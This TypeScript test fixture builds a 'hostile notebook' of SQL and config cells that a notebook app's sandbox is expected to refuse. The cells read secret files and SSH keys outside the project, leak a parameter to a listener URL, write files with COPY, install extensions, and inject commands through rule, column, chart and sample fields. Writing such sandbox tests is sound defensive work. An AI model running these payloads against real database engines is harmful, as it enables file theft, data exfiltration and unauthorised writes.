/**
 * The hostile-notebook corpus: cells a notebook from someone else might hold to read, write
 * or send what it should not. Each is refused with `why`; none may read a file outside the
 * sources, write a file, or reach the listener. Shared by the CLI engines' test and the
 * Chromium test, so every engine faces the same notebook.
 */
export interface HostileCell {
  kind: string;
  name: string;
  body: string;
  /** What the refusal must say; null: the cell runs (its values were only ever literals). */
  why: RegExp | null;
}

/** Where the corpus points: a folder outside the project, a symlink inside it, the listener. */
export interface HostileTargets {
  outside: string;
  link: string;
  url: string;
}

const SANDBOX = /refused by the sandbox/;
const ONE_SELECT = /one (SELECT statement|query per cell)|a SQL cell holds one query/;

export function hostileCells(t: HostileTargets, source: string): HostileCell[] {
  const secret = `${t.outside}/secret.txt`;
  const sql = (name: string, body: string, why: RegExp = SANDBOX): HostileCell => ({ kind: 'sql', name, body, why });
  return [
    sql('read_text_abs', `SELECT * FROM read_text('${secret}')`),
    sql('read_blob_abs', `SELECT * FROM read_blob('${secret}')`),
    sql('read_csv_abs', `SELECT * FROM read_csv('${t.outside}/secret.csv')`),
    sql('from_path', `SELECT * FROM '${t.outside}/secret.csv'`),
    sql('glob_dir', `SELECT * FROM glob('${t.outside}/*')`),
    sql('relative_path', `SELECT * FROM read_text('../outside/secret.txt')`),
    sql('home_path', `SELECT * FROM read_text('~/.ssh/id_rsa')`),
    sql('symlinked', `SELECT * FROM read_text('${t.link}')`),
    sql('union_exfil', `SELECT content AS v FROM read_text('${secret}') UNION ALL SELECT 'x'`),
    sql('http_csv', `SELECT * FROM read_csv('${t.url}/x.csv')`),
    sql('http_param', `SELECT * FROM read_text('${t.url}/?d=' || getvariable('note'))`),
    sql('http_from', `SELECT * FROM '${t.url}/data.csv'`),
    sql('quote_bypass', `SELECT E'\\'' AS q; COPY (SELECT 42) TO '${t.outside}/written_quote.csv' -- '`, ONE_SELECT),
    sql('dollar_bypass', `SELECT $$a;b$$ AS q; COPY (SELECT 42) TO '${t.outside}/written_dollar.csv'`, ONE_SELECT),
    sql('copy_to', `COPY (SELECT 42) TO '${t.outside}/written_copy.csv'`, ONE_SELECT),
    sql('attach', `ATTACH '${t.outside}/written.db'`, ONE_SELECT),
    sql('install', `INSTALL httpfs FROM '${t.url}'`, ONE_SELECT),
    sql('load', `LOAD httpfs`, ONE_SELECT),
    sql('set_setting', `SET enable_external_access = true`, ONE_SELECT),
    sql('cte_copy', `WITH x AS (SELECT 1) SELECT * FROM x; COPY (SELECT 42) TO '${t.outside}/written_cte.csv'`, ONE_SELECT),
    {
      kind: 'checks',
      name: 'rule_injection',
      body: `source: ${source}\nrules:\n  - sql: "true)) AS f0 FROM ${source}; COPY (SELECT 42) TO '${t.outside}/written_rule.csv'; SELECT count(*) FILTER (WHERE (true"\n    name: injected`,
      why: /rule injected: the condition .* is not a valid SQL expression/,
    },
    {
      kind: 'checks',
      name: 'rule_escape',
      body: `source: ${source}\nrules:\n  - relation: "true) AS f0, count(*) FILTER (WHERE true"\n    name: escaped`,
      why: /rule escaped: the condition .* (is not one SQL expression|is not a valid SQL expression)/,
    },
    {
      kind: 'checks',
      name: 'rule_reads_file',
      body: `source: ${source}\nrules:\n  - relation: "label IN (SELECT content FROM read_text('${secret}'))"\n    name: reader`,
      why: SANDBOX,
    },
    {
      kind: 'checks',
      name: 'column_injection',
      body: `source: ${source}\nrules:\n  - not_null: 'label"); COPY (SELECT 42) TO ''${t.outside}/written_col.csv''; --'`,
      why: /has no column/,
    },
    {
      kind: 'checks',
      name: 'value_injection',
      body: `source: ${source}\nrules:\n  - in_set: label\n    values: ["ok'); COPY (SELECT 42) TO '${t.outside}/written_val.csv'; --"]\n  - matches: label\n    pattern: "x'; COPY (SELECT 42) TO '${t.outside}/written_pat.csv'; --"`,
      // The values are literals: the rules run (and fail) and nothing else happens.
      why: null,
    },
    {
      kind: 'chart',
      name: 'chart_injection',
      body: `source: ${source}\nx: 'label" FROM ${source}; COPY (SELECT 42) TO ''${t.outside}/written_chart.csv''; --'\ny: count`,
      why: /has no column/,
    },
    {
      kind: 'profile',
      name: 'profile_injection',
      body: `source: ${source}\ncolumns: ['label"; COPY (SELECT 42) TO ''${t.outside}/written_profile.csv''; --']`,
      why: /has no column/,
    },
    {
      kind: 'sample',
      name: 'sample_injection',
      body: `source: ${source}\nstratify: label\nkey: 'id"; COPY (SELECT 42) TO ''${t.outside}/written_sample.csv''; --'\nseed: 1`,
      why: /has no column/,
    },
  ];
}

/** A notebook of the corpus over one CSV source, with one harmless cell that must still work. */
export function hostileNotebook(t: HostileTargets, sourcePath: string | null): { text: string; cells: HostileCell[] } {
  const cells = hostileCells(t, 'batch');
  // In the app the source is a file the user opened (a table named batch), not a path.
  const sources = sourcePath === null ? '' : `sources:\n  batch: ${sourcePath}\n`;
  const fences = cells.map((c) => `\`\`\`${c.kind} ${c.name}\n${c.body}\n\`\`\``).join('\n\n');
  const text = `---
title: A colleague's notebook
params:
  note: secret-parameter
${sources}---

\`\`\`sql harmless
SELECT label, count(*) AS n FROM batch GROUP BY label ORDER BY label
\`\`\`

${fences}
`;
  return { text, cells };
}
